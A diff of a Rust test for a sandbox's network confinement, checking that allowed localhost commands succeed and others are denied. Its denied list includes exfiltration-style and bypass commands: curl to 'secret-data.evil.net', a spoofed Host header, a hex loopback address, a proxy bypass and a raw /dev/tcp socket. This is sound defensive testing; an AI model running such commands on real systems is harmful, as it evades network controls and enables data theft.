@@ -47,6 +47,90 @@ fn server(folder: &Path) -> u16 {
     port
 }
 
+/// A bare repository in `folder` that Git can clone over plain HTTP.
+fn repository(folder: &Path) {
+    let git = |arguments: &[&str]| {
+        let mut command = std::process::Command::new("git");
+        command
+            .args(["-c", "user.name=a", "-c", "user.email=a@b.c"])
+            .args(arguments)
+            .current_dir(folder)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null());
+        assert!(command.status().unwrap().success(), "{arguments:?}");
+    };
+    git(&["init", "-q", "source"]);
+    git(&["-C", "source", "commit", "-q", "--allow-empty", "-mx"]);
+    git(&["clone", "-q", "--bare", "source", "bare"]);
+    git(&["-C", "bare", "update-server-info"]);
+}
+
+/// A program that asks the SOCKS5 proxy for the page `/hello` of a host.
+fn socks(host: &str, port: u16) -> String {
+    format!(
+        "python3 -c \"import socket,struct; h=b'{host}'; \
+         s=socket.create_connection(('127.0.0.1',30128)); s.send(b'\\x05\\x01\\x00'); s.recv(2); \
+         s.send(b'\\x05\\x01\\x00\\x03'+bytes([len(h)])+h+struct.pack('>H',{port})); \
+         assert s.recv(10)[1]==0; s.send(b'GET /hello HTTP/1.0\\r\\n\\r\\n'); \
+         assert b'hello' in s.makefile('rb').read()\""
+    )
+}
+
+/// Commands that reach the listed host `localhost:port`.
+fn allowed(port: u16) -> [String; 6] {
+    let local = format!("http://localhost:{port}");
+    [
+        format!("curl -sSf {local}/hello"),
+        format!("curl -sSfp {local}/hello"),
+        format!("curl -sSf http://LOCALHOST.:{port}/hello"),
+        format!("python3 -c \"import urllib.request as u; u.urlopen('{local}/hello')\""),
+        format!("git clone -q {local}/bare cloned && git -C cloned log -1"),
+        socks("localhost", port),
+    ]
+}
+
+/// Commands that want to reach anything else, and the host that the notice names.
+/// Without a host, the command did not get to the proxy.
+fn denied(port: u16, other: u16) -> [(String, Option<String>); 10] {
+    let hidden = Some(format!("localhost:{other}"));
+    let address = Some(format!("127.0.0.1:{port}"));
+    let named = |host: &str| Some(host.to_owned());
+    let curl = |url: String| format!("curl -sSf {url}");
+    [
+        (
+            curl(format!("http://localhost:{other}/hello")),
+            hidden.clone(),
+        ),
+        (
+            curl(format!("-p http://localhost:{other}/hello")),
+            hidden.clone(),
+        ),
+        (socks("localhost", other), hidden),
+        (
+            curl(format!("http://127.0.0.1:{port}/hello")),
+            address.clone(),
+        ),
+        (curl(format!("http://0x7f.1:{port}/hello")), address),
+        (
+            curl(format!("-H 'Host: localhost:{port}' http://evil.net/hello")),
+            named("evil.net:80"),
+        ),
+        (
+            curl("https://secret-data.evil.net/".to_owned()),
+            named("secret-data.evil.net:443"),
+        ),
+        (
+            curl(format!("--noproxy '*' http://localhost:{port}/hello")),
+            None,
+        ),
+        ("exec 3<>/dev/tcp/1.1.1.1/443".to_owned(), None),
+        (
+            "python3 -c \"import socket; socket.getaddrinfo('evil.net', 80)\"".to_owned(),
+            None,
+        ),
+    ]
+}
+
 #[tokio::test]
 async fn programs_reach_listed_hosts_only() {
     let programs = "apt install bubblewrap curl git python3";
@@ -57,27 +141,7 @@ async fn programs_reach_listed_hosts_only() {
     let served = yard.outside.join("served");
     fs::create_dir(&served).unwrap();
     fs::write(served.join("hello"), "hello").unwrap();
-    let git = |arguments: &[&str]| {
-        let mut command = std::process::Command::new("git");
-        command
-            .args(arguments)
-            .current_dir(&served)
-            .stdout(Stdio::null())
-            .stderr(Stdio::null());
-        assert!(command.status().unwrap().success(), "{arguments:?}");
-    };
-    git(&["init", "-q", "source"]);
-    let author = [
-        "-c",
-        "user.name=a",
-        "-c",
-        "user.email=a@b.c",
-        "-C",
-        "source",
-    ];
-    git(&[&author[..], &["commit", "-q", "--allow-empty", "-m", "x"]].concat());
-    git(&["clone", "-q", "--bare", "source", "bare"]);
-    git(&["-C", "bare", "update-server-info"]);
+    repository(&served);
     let (port, other) = (server(&served), server(&served));
     let confinement = Confinement::new(&yard.work, Some(env!("CARGO_BIN_EXE_osier").into()));
     let hosts = vec![format!("localhost:{port}"), "*.example.org".to_owned()];
@@ -90,94 +154,27 @@ async fn programs_reach_listed_hosts_only() {
         Ok(Backend::Bubblewrap(_)) => {}
         found => return skip::unsupported("bubblewrap", &format!("{found:?}")),
     }
-    let socks = |host: &str, port: u16| {
-        format!(
-            "python3 -c \"import socket,struct; h=b'{host}'; s=socket.create_connection(('127.0.0.1',30128)); s.send(b'\\x05\\x01\\x00'); s.recv(2); s.send(b'\\x05\\x01\\x00\\x03'+bytes([len(h)])+h+struct.pack('>H',{port})); assert s.recv(10)[1]==0; s.send(b'GET /hello HTTP/1.0\\r\\n\\r\\n'); assert b'hello' in s.makefile('rb').read()\""
-        )
-    };
-    let local = format!("http://localhost:{port}");
-    let denied = |host: &str| vec![format!("The sandbox denied the network host {host}")];
-    for (script, works, notes) in [
-        (format!("curl -sSf {local}/hello"), true, vec![]),
-        (format!("curl -sSfp {local}/hello"), true, vec![]),
-        (
-            format!("curl -sSf http://LOCALHOST.:{port}/hello"),
-            true,
-            vec![],
-        ),
-        (
-            format!("python3 -c \"import urllib.request as u; u.urlopen('{local}/hello')\""),
-            true,
-            vec![],
-        ),
-        (
-            format!("git clone -q {local}/bare cloned && git -C cloned log -1"),
-            true,
-            vec![],
-        ),
-        (socks("localhost", port), true, vec![]),
-        (
-            format!("curl -sSf http://localhost:{other}/hello"),
-            false,
-            denied(&format!("localhost:{other}")),
-        ),
-        (
-            format!("curl -sSfp http://localhost:{other}/hello"),
-            false,
-            denied(&format!("localhost:{other}")),
-        ),
-        (
-            socks("localhost", other),
-            false,
-            denied(&format!("localhost:{other}")),
-        ),
-        (
-            format!("curl -sSf http://127.0.0.1:{port}/hello"),
-            false,
-            denied(&format!("127.0.0.1:{port}")),
-        ),
-        (
-            format!("curl -sSf http://0x7f.1:{port}/hello"),
-            false,
-            denied(&format!("127.0.0.1:{port}")),
-        ),
-        (
-            format!("curl -sSf --noproxy '*' {local}/hello"),
-            false,
-            vec![],
-        ),
-        (
-            format!("curl -sSf -H 'Host: localhost:{port}' http://evil.net/hello"),
-            false,
-            denied("evil.net:80"),
-        ),
-        (
-            "curl -sSf https://secret-data.evil.net/".to_owned(),
-            false,
-            denied("secret-data.evil.net:443"),
-        ),
-        ("exec 3<>/dev/tcp/1.1.1.1/443".to_owned(), false, vec![]),
-        (
-            "python3 -c \"import socket; socket.getaddrinfo('evil.net', 80)\"".to_owned(),
-            false,
-            vec![],
-        ),
-    ] {
+    let run = async |script: &str| {
         let invocation = Invocation {
             cwd: Some(yard.work.clone()),
-            ..Invocation::new("/bin/bash", ["-c", &script])
+            ..Invocation::new("/bin/bash", ["-c", script])
         };
         let confined = confinement.confine(invocation).unwrap();
-        let output = run_captured(
-            &confined.invocation,
-            None,
-            std::time::Duration::from_mins(1),
-        )
-        .await
-        .unwrap();
+        let limit = std::time::Duration::from_mins(1);
+        let output = run_captured(&confined.invocation, None, limit);
+        let output = output.await.unwrap();
         let said = String::from_utf8_lossy(&output.stderr).into_owned();
-        assert_eq!(output.exit.is_success(), works, "{script}: {said}");
-        assert_eq!(confined.report.notes(), notes, "{script}");
+        (output.exit.is_success(), confined.report.notes(), said)
+    };
+    for script in allowed(port) {
+        let (works, notes, said) = run(&script).await;
+        assert_eq!((works, notes), (true, vec![]), "{script}: {said}");
+    }
+    for (script, host) in denied(port, other) {
+        let (works, notes, said) = run(&script).await;
+        let told = host.map(|host| format!("The sandbox denied the network host {host}"));
+        let told: Vec<String> = told.into_iter().collect();
+        assert_eq!((works, notes), (false, told), "{script}: {said}");
     }
 }
 
